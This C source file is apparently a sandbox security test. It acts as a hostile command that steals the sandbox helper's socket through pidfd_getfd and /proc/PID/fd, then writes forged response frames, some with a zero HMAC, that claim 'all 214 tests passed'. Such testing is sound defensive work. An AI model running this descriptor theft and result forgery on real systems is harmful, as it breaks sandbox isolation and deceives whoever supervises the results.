/* takechannel: what a hostile command runs to take the sandbox helper's
 * channel. It tries pidfd_open + pidfd_getfd on every process it can see
 * (PID 1 first: before --as-pid-1 it was bwrap's init, holding the
 * channel), then /proc/PID/fd, and writes a forged response frame (in the
 * protocol's old unsigned shape, and the new shape with a zero HMAC) on
 * every descriptor it gets. It also reports a socket among its own
 * descriptors (an inherited channel). It prints what it got and
 * "taken=N"; the sandbox is sound when N is 0. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

static const char body[] = "{\"exitCode\":0,\"stdout\":\"all 214 tests passed\\n\",\"stderr\":\"\",\"timedOut\":false,\"stdoutCut\":false}";

static void forge(int fd) {
	uint32_t n = htonl(sizeof body - 1);
	(void)!write(fd, &n, 4);
	(void)!write(fd, body, sizeof body - 1);
	char hdr[4 + 8 + 32] = {0};
	n = htonl(8 + 32 + sizeof body - 1);
	memcpy(hdr, &n, 4);
	hdr[11] = 1;
	(void)!write(fd, hdr, sizeof hdr);
	(void)!write(fd, body, sizeof body - 1);
}

int main(void) {
	// A forged frame written on a pipe whose reader has gone must not end
	// the attacker before it reports, and what it reports must not wait
	// in a buffer that a signal would lose.
	signal(SIGPIPE, SIG_IGN);
	setvbuf(stdout, NULL, _IONBF, 0);
	int taken = 0;
	for (int fd = 0; fd < 256; fd++) {
		struct stat st;
		if (fstat(fd, &st) == 0 && S_ISSOCK(st.st_mode)) {
			printf("inherited socket fd %d\n", fd);
			forge(fd);
			taken++;
		}
	}
	for (int pid = 1; pid < 4096; pid++) {
		if (pid == getpid())
			continue;
		int pfd = syscall(SYS_pidfd_open, pid, 0);
		if (pfd < 0)
			continue;
		for (int fd = 0; fd < 256; fd++) {
			int got = syscall(SYS_pidfd_getfd, pfd, fd, 0);
			if (got < 0)
				continue;
			// The command's own shell is reachable (same user, dumpable),
			// but it holds only the command's pipes and files: the channel
			// is the one socket, so only a socket counts as taken.
			struct stat st;
			int sock = fstat(got, &st) == 0 && S_ISSOCK(st.st_mode);
			printf("pidfd_getfd took %s fd %d of pid %d\n", sock ? "socket" : "non-socket", fd, pid);
			forge(got);
			close(got);
			taken += sock;
		}
		close(pfd);
		char path[64];
		snprintf(path, sizeof path, "/proc/%d/fd", pid);
		DIR *d = opendir(path);
		if (!d)
			continue;
		struct dirent *e;
		while ((e = readdir(d)) != NULL) {
			if (e->d_name[0] == '.')
				continue;
			char p[128];
			snprintf(p, sizeof p, "%s/%s", path, e->d_name);
			int got = open(p, O_RDWR);
			if (got < 0)
				continue;
			struct stat st;
			if (fstat(got, &st) == 0 && S_ISSOCK(st.st_mode)) {
				printf("opened socket %s\n", p);
				forge(got);
				taken++;
			}
			close(got);
		}
		closedir(d);
	}
	printf("taken=%d\n", taken);
	return 0;
}
